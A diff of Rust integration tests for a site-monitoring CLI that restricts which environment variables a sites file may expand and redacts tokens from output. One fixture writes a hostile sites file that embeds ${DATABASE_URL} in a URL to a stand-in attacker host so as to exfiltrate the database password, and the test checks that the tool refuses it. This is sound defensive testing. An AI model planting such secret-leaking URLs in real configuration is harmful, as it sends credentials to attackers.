@@ -29,7 +29,7 @@ fn apply(db: &TestDb, args: &[&str], token: Option<&str>) -> Output {
     let mut command = sitemon_with_database(&db.url);
     command.arg("apply").args(args);
     if let Some(token) = token {
-        command.env("EXAMPLE_TOKEN", token);
+        command.env("SITEMON_SITE_EXAMPLE_TOKEN", token);
     }
     run(&mut command)
 }
@@ -184,20 +184,23 @@ async fn the_example_applies_then_changes_nothing_and_export_round_trips() {
         assert_eq!(snapshot(&db).await, stored, "{format}");
     }
 
-    // A changed token is a change of that site alone.
-    let rotated = succeeded(&apply(&db, &[example], Some("tok-2")));
-    assert!(
-        rotated.starts_with("~ https://api.example.net/v1/health (site "),
-        "{rotated}"
-    );
-    assert!(
-        rotated.contains(
-            "headers {\"Authorization\":\"Bearer tok-1\",\"Content-Type\":\"application/json\"} -> \
-             {\"Authorization\":\"Bearer tok-2\",\"Content-Type\":\"application/json\"}"
-        ),
-        "{rotated}"
-    );
-    assert!(rotated.contains("= 5 unchanged"), "{rotated}");
+    // A changed token is a change of that site alone, printed without either token, by the
+    // dry run and by the apply.
+    for args in [&[example, "--dry-run"][..], &[example][..]] {
+        let output = apply(&db, args, Some("tok-2"));
+        let rotated = succeeded(&output);
+        let api = rotated.lines().next().unwrap_or_default();
+        assert!(
+            api.starts_with("~ https://api.example.net/v1/health (site ")
+                && api.ends_with("): header Authorization changed"),
+            "{rotated}"
+        );
+        assert!(rotated.contains("= 5 unchanged"), "{rotated}");
+        for token in ["tok-1", "tok-2"] {
+            assert!(!rotated.contains(token), "{rotated}");
+            assert!(!stderr(&output).contains(token), "{}", stderr(&output));
+        }
+    }
 
     // --prune removes the site the file does not have, saying how much history goes.
     let pruned = succeeded(&apply(&db, &[example, "--prune"], Some("tok-2")));
@@ -215,17 +218,23 @@ async fn the_example_applies_then_changes_nothing_and_export_round_trips() {
     assert_eq!(left, 0, "the removed site's history went with it");
     assert_eq!(export_json(&db)["sites"].as_array().map(Vec::len), Some(6));
 
-    // A variable that is not set: the file, the line and the column of ${EXAMPLE_TOKEN}.
+    // A variable that is not set: the file, the line and the column of its `${`.
     let before = snapshot(&db).await;
     let text = std::fs::read_to_string(example).expect("the example");
     let (line, column) = text
         .lines()
         .enumerate()
-        .find_map(|(i, l)| l.find("${EXAMPLE_TOKEN}").map(|c| (i + 1, c + 1)))
-        .expect("the example uses EXAMPLE_TOKEN");
+        .find_map(|(i, l)| {
+            l.find("${SITEMON_SITE_EXAMPLE_TOKEN}")
+                .map(|c| (i + 1, c + 1))
+        })
+        .expect("the example uses SITEMON_SITE_EXAMPLE_TOKEN");
     assert_fails(
         &apply(&db, &[example], None),
-        &format!("{example}:{line}:{column}: the environment variable EXAMPLE_TOKEN is not set"),
+        &format!(
+            "{example}:{line}:{column}: the environment variable SITEMON_SITE_EXAMPLE_TOKEN is \
+             not set"
+        ),
     );
     assert_eq!(snapshot(&db).await, before);
     let _ = std::fs::remove_dir_all(dir);
@@ -369,14 +378,14 @@ async fn a_header_from_the_environment_arrives() {
     std::fs::write(
         &file,
         format!(
-            "sites:\n  - url: {}\n    interval: 1\n    headers:\n      X-Token: \"Bearer ${{SITEMON_TEST_TOKEN}}\"\n",
+            "sites:\n  - url: {}\n    interval: 1\n    headers:\n      X-Token: \"Bearer ${{SITEMON_SITE_TEST_TOKEN}}\"\n",
             server.url("/ok?token")
         ),
     )
     .expect("write");
     let output = run(sitemon_with_database(&db.url)
         .args(["apply", file.to_str().expect("UTF-8")])
-        .env("SITEMON_TEST_TOKEN", "from-the-environment"));
+        .env("SITEMON_SITE_TEST_TOKEN", "from-the-environment"));
     succeeded(&output);
 
     let mut checker = sitemon(&db, &topic)
@@ -624,8 +633,8 @@ async fn add_site_and_update_site_refuse_each_bad_option() {
     assert_eq!(
         succeeded(&output),
         format!(
-            "~ http://127.0.0.1:9/full (site {id}): headers {{\"Authorization\":\"Bearer x\",\"X-Trace\":\"1\"}} -> {{}}, \
-             interval 30 -> 60, regex \"ok\" -> (none), timeout_ms 5000 -> (none)\n"
+            "~ http://127.0.0.1:9/full (site {id}): header Authorization removed, header X-Trace \
+             removed, interval 30 -> 60, regex \"ok\" -> (none), timeout_ms 5000 -> (none)\n"
         )
     );
     let output = site_command(&db, "update-site", &[&id, "--interval", "60"]);
@@ -794,4 +803,108 @@ async fn alert_settings_are_keys_of_the_sites_file_and_flags_of_update_site() {
     );
     assert_eq!(snapshot(&db).await, before, "a refused update wrote");
     db.drop_database().await;
+}
+
+/// A sites file from a pull request cannot read sitemon's own settings: `${DATABASE_URL}` is
+/// refused with its place, nothing is written, and the password is in no output; `--env`
+/// cannot allow it; a variable outside the prefix needs `--env`.
+#[tokio::test]
+async fn only_allowed_variables_expand_and_no_value_is_printed() {
+    let db = TestDb::migrated().await;
+    // The file is refused before any connection: a database URL whose password is a marker
+    // shows whether it leaks.
+    let password = "pw-3f9c2a-not-for-evil";
+    let marked = match url_password(&db.url) {
+        Some(real) => db
+            .url
+            .replacen(&format!(":{real}@"), &format!(":{password}@"), 1),
+        None => panic!("the test database URL has a password"),
+    };
+    let dir = scratch();
+    let evil = dir.join("evil.yaml");
+    std::fs::write(
+        &evil,
+        "sites:\n  - url: https://evil.invalid/?x=${DATABASE_URL}\n",
+    )
+    .expect("write");
+    let evil = evil.to_str().expect("UTF-8");
+    let before = snapshot(&db).await;
+    for args in [
+        &[evil, "--dry-run"][..],
+        &[evil][..],
+        &[evil, "--dry-run", "--env", "DATABASE_URL"][..],
+        &[evil, "--env", "PGPASSWORD"][..],
+    ] {
+        let output = run(sitemon_with_database(&marked)
+            .arg("apply")
+            .args(args)
+            .env("PGPASSWORD", password));
+        let (out, err) = (stdout(&output), stderr(&output));
+        assert!(!output.status.success(), "{args:?}: {out}");
+        assert!(
+            !out.contains(password) && !err.contains(password),
+            "{out}{err}"
+        );
+        assert_eq!(err.lines().count(), 1, "{err}");
+        if args.contains(&"--env") {
+            assert_eq!(output.status.code(), Some(2), "{err}");
+            assert!(
+                err.starts_with(&format!(
+                    "error: invalid --env: {} is ",
+                    args[args.len() - 1]
+                )),
+                "{err}"
+            );
+            assert!(
+                err.contains("never expands sitemon's own settings"),
+                "{err}"
+            );
+        } else {
+            assert_fails(
+                &output,
+                &format!(
+                    "{evil}:2:34: ${{DATABASE_URL}} is sitemon's database connection setting: a \
+                     sites file never expands sitemon's own settings"
+                ),
+            );
+        }
+    }
+    assert_eq!(snapshot(&db).await, before, "a refused file wrote");
+
+    // Outside the prefix: refused, saying how to allow it; allowed with --env.
+    let other = dir.join("other.yaml");
+    std::fs::write(
+        &other,
+        "sites:\n  - url: \"http://127.0.0.1:9/${API_KEY}\"\n",
+    )
+    .expect("write");
+    let other = other.to_str().expect("UTF-8");
+    let with = |args: &[&str]| {
+        run(sitemon_with_database(&db.url)
+            .arg("apply")
+            .args(args)
+            .env("API_KEY", "k-123"))
+    };
+    assert_fails(
+        &with(&[other, "--dry-run"]),
+        &format!(
+            "{other}:2:30: ${{API_KEY}} is not allowed in a sites file: only variables named \
+             SITEMON_SITE_* expand, and those allowed with --env API_KEY"
+        ),
+    );
+    let planned = succeeded(&with(&[other, "--dry-run", "--env", "API_KEY"]));
+    assert_eq!(
+        planned,
+        "+ http://127.0.0.1:9/${API_KEY}\n= 0 unchanged\n\
+         dry run: 1 to add, 0 to change, 0 to remove; nothing written\n"
+    );
+    let _ = std::fs::remove_dir_all(dir);
+    db.drop_database().await;
+}
+
+/// The password of a `postgres://user:password@host/db` URL.
+fn url_password(url: &str) -> Option<String> {
+    let rest = url.split_once("://")?.1;
+    let userinfo = rest.split_once('@')?.0;
+    Some(userinfo.split_once(':')?.1.to_owned()).filter(|p| !p.is_empty())
 }
